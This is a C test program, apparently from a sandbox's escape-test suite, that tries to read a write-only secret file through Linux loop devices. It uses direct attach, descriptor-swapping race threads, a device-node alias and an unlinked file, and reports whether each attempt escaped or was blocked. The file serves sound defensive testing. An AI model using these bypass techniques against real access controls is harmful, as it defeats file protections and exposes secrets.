/* loop_wo.c SECRET [MODE [DECOY [READER]]]: read a file the table only lets the program write,
 * through a loop device (review 28, known gap #44).  The secret is opened O_WRONLY (what the
 * table grants), attached to a free loop device (LOOP_CTL_GET_FREE, then LOOP_SET_FD -- which
 * takes a descriptor not open for reading: the device is then read-write, its reads the
 * file's), and the device read: a table that reads /dev/** has the file's contents.
 * MODE "set" (the default): LOOP_SET_FD.  "configure": LOOP_CONFIGURE, the descriptor in
 * its struct loop_config (memory).  "race": LOOP_SET_FD of a number a second thread keeps
 * turning between DECOY (a file the table reads and writes) and the secret (dup2), 400
 * times.  "configrace": LOOP_CONFIGURE of a struct whose fd a second thread keeps turning
 * between DECOY's descriptor and the secret's, 400 times.  "node" (review 30): DECOY is a
 * path where a device node of the free loop device is made (mknod, its number): the attach
 * is made through that node, then READER (dd, a program of a table of its own that reads
 * /dev/**) reads the device by its /dev name into a pipe -- the device's other name, which
 * a comparison of the node's name alone misses.  "deleted" (review 30): LOOP_SET_FD of the
 * secret's descriptor after the secret is removed (unlink: /proc names it "SECRET
 * (deleted)", a name no rule of the secret's matches).  ESCAPED when the secret was read;
 * BLOCKED with the failing step's errno (the last one, and a count of each, when racing)
 * otherwise.  Root (the loop devices).
 */
#include "attack.h"

#include <linux/loop.h>
#include <pthread.h>
#include <sys/ioctl.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>

#define TRIES 400
#define NUMBER 40 /* the descriptor number the racing thread turns */

static int secret_fd, decoy_fd;
static struct loop_config config;
static volatile int stop;

static void *turn_number(void *arg) {
    (void)arg;
    while (!stop) {
        dup2(secret_fd, NUMBER);
        dup2(decoy_fd, NUMBER);
    }
    return NULL;
}

static void *turn_struct(void *arg) {
    (void)arg;
    while (!stop) {
        __atomic_store_n(&config.fd, (unsigned)secret_fd, __ATOMIC_RELAXED);
        __atomic_store_n(&config.fd, (unsigned)decoy_fd, __ATOMIC_RELAXED);
    }
    return NULL;
}

/* attach by the mode's request; 0 or the errno */
static int attach(int loop, const char *mode) {
    int r;
    if (!strcmp(mode, "set"))
        r = ioctl(loop, LOOP_SET_FD, secret_fd);
    else if (!strcmp(mode, "race"))
        r = ioctl(loop, LOOP_SET_FD, NUMBER);
    else {
        if (!strcmp(mode, "configure"))
            config.fd = (unsigned)secret_fd;
        r = ioctl(loop, LOOP_CONFIGURE, &config);
    }
    return r < 0 ? errno : 0;
}

/* "node": attach through a node of the device made at NODE, read it by its /dev name with
 * READER (if=DEV, into a pipe); never returns */
static void node_attach(const char *dev, const char *node, const char *reader) {
    if (!node)
        blocked("node needs a NODE and a READER");
    struct stat st;
    if (stat(dev, &st) < 0)
        blocked("stat %s: %s", dev, ename(errno));
    unlink(node);
    if (mknod(node, S_IFBLK | 0600, st.st_rdev) < 0)
        blocked("mknod %s %u:%u: %s", node, major(st.st_rdev), minor(st.st_rdev), ename(errno));
    int loop = open(node, O_RDWR | O_CLOEXEC);
    if (loop < 0)
        blocked("open %s: %s", node, ename(errno));
    if (ioctl(loop, LOOP_SET_FD, secret_fd) < 0) {
        int err = errno;
        unlink(node);
        if (err == EBUSY)
            skipped("LOOP_SET_FD %s: %s", node, ename(err));
        blocked("LOOP_SET_FD %s (%s): %s", node, dev, ename(err));
    }
    int fds[2];
    if (pipe(fds) < 0)
        blocked("pipe: %s", ename(errno));
    char input[80];
    snprintf(input, sizeof input, "if=%s", dev);
    pid_t child = fork();
    if (child == 0) {
        dup2(fds[1], 1);
        execl(reader, reader, input, "bs=4096", "count=1", "status=none", (char *)NULL);
        _exit(127);
    }
    close(fds[1]);
    char buf[4096];
    ssize_t got = 0, n;
    while (got < (ssize_t)sizeof buf && (n = read(fds[0], buf + got, sizeof buf - got)) > 0)
        got += n;
    int status = 0;
    waitpid(child, &status, 0);
    ioctl(loop, LOOP_CLR_FD, 0);
    close(loop);
    unlink(node);
    if (got > 0 && memmem(buf, (size_t)got, SECRET_MAGIC, strlen(SECRET_MAGIC)))
        escaped("%s read the secret at %s, attached through %s", reader, dev, node);
    blocked("%s at %s: %zd bytes, not the secret (status %d)", reader, dev, got, status);
}

int main(int argc, char **argv) {
    if (argc < 2 || argc > 5)
        blocked("usage: %s SECRET [MODE [DECOY [READER]]]", argv[0]);
    const char *mode = argc > 2 ? argv[2] : "set";
    int racing = !strcmp(mode, "race") || !strcmp(mode, "configrace");
    secret_fd = open(argv[1], O_WRONLY | O_CLOEXEC);
    if (secret_fd < 0)
        blocked("open %s O_WRONLY: %s", argv[1], ename(errno));
    if (!strcmp(mode, "deleted")) {
        if (unlink(argv[1]) < 0)
            blocked("unlink %s: %s", argv[1], ename(errno));
        mode = "set";
    }
    if (racing) {
        if (argc != 4)
            blocked("%s needs a DECOY", mode);
        decoy_fd = open(argv[3], O_RDWR | O_CLOEXEC);
        if (decoy_fd < 0)
            blocked("open %s: %s", argv[3], ename(errno));
        if (dup2(decoy_fd, NUMBER) < 0)
            blocked("dup2: %s", ename(errno));
        config.fd = (unsigned)decoy_fd;
    }
    int ctl = open("/dev/loop-control", O_RDWR | O_CLOEXEC);
    if (ctl < 0)
        skipped("/dev/loop-control: %s", ename(errno));
    int n = ioctl(ctl, LOOP_CTL_GET_FREE);
    if (n < 0)
        skipped("LOOP_CTL_GET_FREE: %s", ename(errno));
    char dev[64];
    snprintf(dev, sizeof dev, "/dev/loop%d", n);
    if (!strcmp(mode, "node"))
        node_attach(dev, argc == 5 ? argv[3] : NULL, argc == 5 ? argv[4] : NULL);
    int loop = open(dev, O_RDWR | O_CLOEXEC);
    if (loop < 0)
        blocked("open %s: %s", dev, ename(errno));
    const char *request = strcmp(mode, "set") && strcmp(mode, "race") ? "LOOP_CONFIGURE"
                                                                       : "LOOP_SET_FD";
    if (!racing) {
        int err = attach(loop, mode);
        if (err == EBUSY)
            skipped("%s %s: %s", request, dev, ename(err));
        if (err)
            blocked("%s %s: %s", request, dev, ename(err));
        int reader = open(dev, O_RDONLY | O_CLOEXEC);
        int secret = reader >= 0 && is_secret_fd(reader);
        int saved = errno;
        ioctl(loop, LOOP_CLR_FD, 0);
        if (secret)
            escaped("read the secret through %s", dev);
        blocked("read %s: %s", dev, reader < 0 ? ename(saved) : "not the secret");
    }
    pthread_t thread;
    pthread_create(&thread, NULL, !strcmp(mode, "race") ? turn_number : turn_struct, NULL);
    int attached = 0, secrets = 0, last = 0, refused = 0, busy = 0;
    close(loop); /* (a device is cleared at its last close: one open per attach) */
    for (int i = 0; i < TRIES && !secrets; i++) {
        loop = open(dev, O_RDWR | O_CLOEXEC);
        if (loop < 0)
            blocked("open %s: %s", dev, ename(errno));
        int err = attach(loop, mode);
        if (err == EBUSY && ++busy < 400) {
            close(loop); /* (the last clear not done yet) */
            usleep(2000);
            i--;
            continue;
        }
        if (err) {
            last = err;
            refused++;
            close(loop);
            continue;
        }
        attached++;
        int reader = open(dev, O_RDONLY | O_CLOEXEC);
        if (reader >= 0) {
            secrets += is_secret_fd(reader);
            close(reader);
        }
        ioctl(loop, LOOP_CLR_FD, 0);
        close(loop);
    }
    stop = 1;
    pthread_join(thread, NULL);
    if (secrets)
        escaped("read the secret through %s (%s, a racing thread; %d attached, %d refused)",
                dev, request, attached, refused);
    blocked("%s %s: %s (%d attached, none the secret; %d refused)", request, dev,
            last ? ename(last) : "-", attached, refused);
}
